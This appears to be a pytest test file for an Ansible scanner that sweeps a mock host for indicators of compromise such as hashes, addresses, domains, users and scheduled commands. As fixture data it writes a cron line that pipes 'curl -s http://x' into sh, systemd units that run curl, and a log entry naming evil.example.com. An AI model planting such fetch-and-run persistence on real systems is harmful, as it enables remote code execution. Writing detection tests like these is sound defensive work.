"""From indicators to results: where they were found, and what could not be looked at."""

from __future__ import annotations

import hashlib
import os
import socket
from pathlib import Path
from typing import Any

import pytest
from ansible_collections.upkeep.runbook.plugins.module_utils.access_review.host import Host
from ansible_collections.upkeep.runbook.plugins.module_utils.errors import UpkeepError
from ansible_collections.upkeep.runbook.plugins.module_utils.integrity import roots
from ansible_collections.upkeep.runbook.plugins.module_utils.ioc import sources
from ansible_collections.upkeep.runbook.plugins.module_utils.ioc.sources import remote_addresses
from ansible_collections.upkeep.runbook.plugins.module_utils.ioc.sweeping import sweep_host
from ansible_collections.upkeep.runbook.plugins.modules import ioc_scan

DEFAULTS = {name: option.get("default") for name, option in ioc_scan.argument_spec().items()}
TCP = """  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
   0: 0100007F:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 1 1
   1: 0100007F:1F90 010200C0:C350 01 00000000:00000000 00:00000000 00000000     0        0 2 1
   2: 0100007F:1F90 020200C0:C350 06 00000000:00000000 00:00000000 00000000     0        0 3 1
   nonsense
"""
TCP6 = """  sl  local_address remote_address st
   0: 00000000000000000000000001000000:1F90 B80D0120000000000000000001000000:C350 01 0
   1: 00000000000000000000000001000000:1F90 0000000000000000FFFF0000030200C0:C350 01 0
"""


class Victim:
    """A folder that stands for a host, and a tree and a log beside it."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.tree = root / "tree"
        self.write("etc/passwd", "root:x:0:0::/root:/bin/sh\neve:x:1002:1002::/home/eve:/bin/sh\n")
        self.write("proc/net/tcp", TCP)
        self.write("proc/net/tcp6", TCP6)
        self.write("tree/deep/dropper", "evil")
        self.write("tree/good", "good")
        self.write("log", "203.0.113.9 GET http://evil.example.com/x\n")

    def write(self, name: str, content: str) -> Path:
        path = self.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)
        return path

    def sweep(self, *indicators: tuple[str, str], **options: Any) -> dict[str, Any]:
        given = {**DEFAULTS, "indicators": [{"type": kind, "value": value} for kind, value in indicators], **options}
        return sweep_host(given, host=Host(str(self.root)))


@pytest.fixture
def victim(tmp_path: Path) -> Victim:
    return Victim(tmp_path)


def places(answer: dict[str, Any]) -> dict[str, list[str]]:
    return {found["value"]: found["places"] for found in answer["found"]}


def unknown(answer: dict[str, Any]) -> list[str]:
    return [row["subject"] for row in answer["checks"] if row["status"] == "unknown"]


def test_each_kind_is_found(victim: Victim) -> None:
    digest = hashlib.sha256(b"evil").hexdigest()
    victim.write("etc/cron.d/x", "* * * * * root Curl -s http://x | sh\n")
    victim.write("home/eve/.config/systemd/user/a.timer", "[Timer]\nX=curl -s http\n")
    victim.write("etc/systemd/system/a.service.d/b.conf", "[Service]\nExecStart=curl -s http\n")
    victim.write("etc/systemd/system/readme.txt", "curl -s http\n")
    answer = victim.sweep(
        ("sha256", digest), ("path", f"{victim.tree}/*/drop*"), ("address", "192.0.2.1"), ("address", "2001:db8::1"),
        ("address", "192.0.2.3"), ("address", "203.0.113.9"), ("domain", "evil.example.com"), ("user", "eve"), ("schedule", "curl -s http"),
        hash_paths=[str(victim.tree)], logs=[f"{victim.root}/lo*"],
    )  # fmt: skip
    assert answer["status"] == "critical"
    assert places(answer) == {
        digest: [f"{victim.tree}/deep/dropper"], f"{victim.tree}/*/drop*": [f"{victim.tree}/deep/dropper"],
        "192.0.2.1": ["1 connections now"], "2001:db8::1": ["1 connections now"], "192.0.2.3": ["1 connections now"],
        "203.0.113.9": [f"{victim.root}/log (1 times)"], "evil.example.com": [f"{victim.root}/log (1 times)"],
        "eve": ["/etc/passwd (number 1002, shell /bin/sh)"],
        "curl -s http": ["/etc/cron.d/x", "/etc/systemd/system/a.service.d/b.conf", "/home/eve/.config/systemd/user/a.timer"],
    }  # fmt: skip
    assert unknown(answer) == []
    assert answer["totals"] == {
        "indicators": 9, "found": 9, "unread": 0, "paths": 1, "files_hashed": 2, "connections": 3, "logs": 1, "log_bytes": 42,
        "accounts": 2, "schedules": 3,
    }  # fmt: skip


def test_a_clean_host_is_ok_and_only_then(victim: Victim) -> None:
    indicators = [
        ("sha256", "ab" * 32), ("path", f"{victim.tree}/none*"), ("address", "192.0.2.2"), ("domain", "other.example.com"), ("user", "mallory"),
        ("schedule", "wget"),
    ]  # fmt: skip
    clean = victim.sweep(*indicators, hash_paths=[str(victim.tree)], logs=[f"{victim.root}/log"])
    assert (clean["status"], clean["found"]) == ("ok", [])
    assert [row["folded"] for row in clean["checks"] if row["check"] == "ioc.found"] == [6]
    answer = victim.sweep(*indicators)
    assert unknown(answer) == ["hash_paths", "logs"]
    answer = victim.sweep(*indicators, hash_paths=[str(victim.tree / "none")], logs=[f"{victim.root}/none*", str(victim.tree)])
    assert unknown(answer) == [str(victim.tree / "none"), f"{victim.root}/none*", str(victim.tree)]


def test_sources_that_cannot_be_read_are_unknown(victim: Victim) -> None:
    for name in ("etc/passwd", "proc/net/tcp", "log"):
        (victim.root / name).unlink()
        os.mkfifo(victim.root / name)
    victim.write("etc/cron.d/x", "")
    (victim.root / "etc/cron.d/x").unlink()
    os.mkfifo(victim.root / "etc/cron.d/x")
    victim.write("etc/systemd/system/x.service", "").unlink()
    (victim.root / "etc/systemd/system/x.service").symlink_to("/dev/null")  # masked
    answer = victim.sweep(("user", "eve"), ("address", "192.0.2.1"), ("schedule", "curl"), logs=[f"{victim.root}/log"])
    assert unknown(answer) == ["/etc/passwd", "/proc/net/tcp", f"{victim.root}/log", "/etc/cron.d/x"]


def test_connections_of_this_host_are_told_as_they_are() -> None:
    with socket.create_server(("127.0.0.1", 0)) as server, socket.create_connection(server.getsockname()):
        found, unread = remote_addresses(Host())
        assert found.get("127.0.0.1", 0) >= 1 and unread == []
    with socket.create_server(("::1", 0), family=socket.AF_INET6) as server, socket.create_connection(server.getsockname()[:2]):
        assert remote_addresses(Host())[0].get("::1", 0) >= 1


def test_an_address_in_the_form_of_the_other_family_is_the_same(victim: Victim) -> None:
    assert places(victim.sweep(("address", "::ffff:192.0.2.1"))) == {"192.0.2.1": ["1 connections now"]}
    with pytest.raises(UpkeepError, match="without an interface"):
        victim.sweep(("address", "fe80::1%eth0"))


def test_a_folder_of_a_user_that_leads_round_in_circles_ends(victim: Victim) -> None:
    folder = victim.write("home/eve/.config/systemd/user/a.service", "curl").parent
    for name in ("a.d", "b.d", "c.wants"):
        (folder / name).symlink_to(".")
    answer = victim.sweep(("schedule", "curl"))
    assert answer["totals"]["schedules"] == 4 and unknown(answer) == []


def test_too_many_schedules_are_unknown(victim: Victim, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sources, "_MAX_FILES", 10)
    for number in range(20):
        victim.write(f"home/eve/.config/systemd/user/{number}.timer", "")
    assert unknown(victim.sweep(("schedule", "curl"))) == ["further schedules"]


def test_a_file_that_is_a_hole_is_not_read(victim: Victim) -> None:
    with open(victim.write("tree/hole", ""), "r+b") as stream:
        stream.truncate(2**40)
    answer = victim.sweep(("sha256", hashlib.sha256(b"evil").hexdigest()), hash_paths=[str(victim.tree)], max_file_bytes=1024)
    assert (answer["found"][0]["count"], unknown(answer)) == (1, [str(victim.tree / "hole")])


def test_what_matches_too_often_is_found_all_the_same(victim: Victim, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(roots, "MAX_ROOTS", 3)
    for number in range(5):
        victim.write(f"tmp/{number}", "")
    answer = victim.sweep(("path", f"{victim.root}/tmp/*"), ("domain", "x.example.com"), logs=[f"{victim.root}/tmp/*"])
    assert (answer["status"], answer["found"][0]["count"], unknown(answer)) == ("critical", 3, [f"{victim.root}/tmp/*"])


def test_places_are_bounded_and_counts_exact(victim: Victim) -> None:
    for number in range(30):
        victim.write(f"tree/copy-{number}", "evil")
    answer = victim.sweep(("sha256", hashlib.sha256(b"evil").hexdigest()), hash_paths=[str(victim.tree)])
    assert (answer["found"][0]["count"], len(answer["found"][0]["places"])) == (31, 20)


def test_wrong_options_are_refused_in_words(victim: Victim) -> None:
    for options, message in (({"workers": 0}, "workers"), ({"hash_paths": ["x"]}, r"hash_paths\[0\]"), ({"logs": ["x"]}, r"logs\[0\]")):
        with pytest.raises(UpkeepError, match=message):
            victim.sweep(("user", "eve"), **options)
